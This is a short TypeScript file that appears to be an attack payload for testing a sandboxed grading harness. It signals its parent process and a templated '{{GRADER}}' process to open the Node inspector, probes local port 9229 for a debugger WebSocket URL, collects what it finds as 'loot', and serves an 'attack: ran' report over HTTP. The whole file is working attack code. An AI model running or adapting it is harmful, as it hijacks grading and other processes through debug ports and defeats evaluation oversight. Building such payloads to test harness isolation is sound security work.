import { createServer, get } from 'node:http';

const loot: string[] = [];
for (const pid of [process.ppid, Number('{{GRADER}}')]) {
  try {
    if (pid > 1) process.kill(pid, 'SIGUSR1');
  } catch {
    // Not there, or not to be reached.
  }
}
function look(port: number): void {
  const request = get({ host: '127.0.0.1', port, path: '/json/list', timeout: 300 }, (answer) => {
    let text = '';
    answer.setEncoding('utf8').on('data', (part: string) => (text += part));
    answer.on('end', () => {
      if (text.includes('webSocketDebuggerUrl')) loot.push(`LOOT: an inspector: ${text.slice(0, 200)}`);
    });
  });
  request.on('error', () => {}).on('timeout', () => request.destroy());
}
for (const wait of [20, 100, 300]) setTimeout(() => look(9229), wait).unref();

createServer((_req, res) => {
  res.setHeader('Content-Type', 'application/json');
  res.end(JSON.stringify({ attack: 'ran', loot }));
}).listen(Number(process.env.PORT), '127.0.0.1');
